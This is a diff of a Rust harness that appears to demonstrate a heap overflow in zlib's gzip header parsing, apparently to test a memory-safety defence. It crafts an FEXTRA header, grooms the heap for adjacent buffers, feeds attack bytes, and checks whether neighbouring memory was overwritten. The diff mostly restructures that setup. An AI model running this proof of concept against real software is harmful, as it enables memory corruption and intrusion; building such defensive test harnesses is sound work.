@@ -27,17 +27,28 @@ const ADJACENT_BYTES: usize = 2 * EXTRA_MAX;
 /// Fixed header (flag FEXTRA, no name, no comment), then the length of the field.
 const HEADER: [u8; 12] = [0x1f, 0x8b, 8, 4, 0, 0, 0, 0, 0, 3, EXTRA_BYTES as u8, 0];
 
-/// Two vectors of `EXTRA_MAX` bytes that are neighbours in memory, and all the others.
-fn neighbours() -> Result<(Vec<u8>, Vec<u8>, Vec<Vec<u8>>), String> {
-    let mut all: Vec<Vec<u8>> = (0..64).map(|_| vec![VICTIM_BYTE; EXTRA_MAX]).collect();
-    all.sort_by_key(|one| one.as_ptr() as usize);
-    let distance = |at: usize| all[at + 1].as_ptr() as usize - all[at].as_ptr() as usize;
-    let first = (0..all.len() - 1)
+/// Vectors of `EXTRA_MAX` bytes, all `VICTIM_BYTE`.
+struct Neighbourhood {
+    lent: Vec<u8>,
+    /// Begins where `lent` ends, the allocator's own slack aside.
+    neighbour: Vec<u8>,
+    others: Vec<Vec<u8>>,
+}
+
+fn neighbourhood() -> Result<Neighbourhood, String> {
+    let mut others: Vec<Vec<u8>> = (0..64).map(|_| vec![VICTIM_BYTE; EXTRA_MAX]).collect();
+    others.sort_by_key(|one| one.as_ptr() as usize);
+    let distance = |at: usize| others[at + 1].as_ptr() as usize - others[at].as_ptr() as usize;
+    let first = (0..others.len() - 1)
         .find(|&at| distance(at) < ADJACENT_BYTES)
         .ok_or("no two vectors of the heap are adjacent")?;
-    let neighbour = all.remove(first + 1);
-    let lent = all.remove(first);
-    Ok((lent, neighbour, all))
+    let neighbour = others.remove(first + 1);
+    let lent = others.remove(first);
+    Ok(Neighbourhood {
+        lent,
+        neighbour,
+        others,
+    })
 }
 
 fn feed(stream: &mut z::z_stream, piece: &mut [u8]) -> Result<c_int, galeed::Violation> {
@@ -51,7 +62,11 @@ fn feed(stream: &mut z::z_stream, piece: &mut [u8]) -> Result<c_int, galeed::Vio
 /// Runs the attack, then shows that the program still works.
 pub fn run(path: &str) -> Result<String, String> {
     let file = honest::read(path)?;
-    let (mut lent, neighbour, others) = neighbours()?;
+    let Neighbourhood {
+        mut lent,
+        neighbour,
+        others,
+    } = neighbourhood()?;
     lent.fill(0);
     let gap = neighbour.as_ptr() as usize - lent.as_ptr() as usize;
     witness::watch(&neighbour)?;
@@ -81,6 +96,7 @@ pub fn run(path: &str) -> Result<String, String> {
     let second = feed(&mut stream, &mut [ATTACK_BYTE; SECOND_PIECE]);
     // Undefended, nothing below this line is ever reached: see `witness`.
 
+    let neighbour_changed = witness::changed_bytes().ok_or("/proc/self/mem cannot be read")?;
     let others_changed = others
         .iter()
         .flatten()
@@ -92,7 +108,7 @@ pub fn run(path: &str) -> Result<String, String> {
         .text("zlib", &zlib::version())
         .value("died", false)
         .value("gap_bytes", gap)
-        .value("neighbour_changed", witness::changed_bytes())
+        .value("neighbour_changed", neighbour_changed)
         .value("others_changed", others_changed)
         .maybe(
             "violation",
